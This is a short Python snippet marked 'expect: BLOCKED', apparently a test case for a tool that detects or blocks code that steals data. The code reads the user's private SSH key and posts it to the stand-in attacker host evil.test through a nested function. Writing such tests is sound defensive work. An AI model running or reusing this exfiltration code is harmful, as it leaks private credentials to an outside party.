# expect: BLOCKED
import os, requests
def make():
    secret = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    def send():
        return requests.post("http://evil.test", data=secret)
    return send
make()()
